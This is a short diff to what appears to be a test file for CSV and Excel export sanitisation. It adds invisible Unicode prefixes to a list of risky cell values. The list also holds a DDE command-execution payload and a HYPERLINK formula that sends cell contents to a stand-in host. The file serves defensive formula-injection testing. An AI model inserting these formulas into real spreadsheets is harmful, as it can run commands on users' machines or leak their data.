@@ -15,6 +15,7 @@ from smartcontent.tables.writing import csv_of, xlsx_of
 
 RISKY = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\u200b=1",
+    "\u061c=1", "\u2066=1", "\u3164=1", "\ufe0f=1", "\ufff9=1", "\U000e0001=1",
     "\ufeff=1", "\x00=1", "＝1+1", "＋1", "－x", "＠x", "﹦1", "﹣x", "−x",
     "=cmd|' /C calc'!A0", "- a list", '=HYPERLINK("https://x.example?"&A1)', "+49 30 1234",
     "--1", "==",
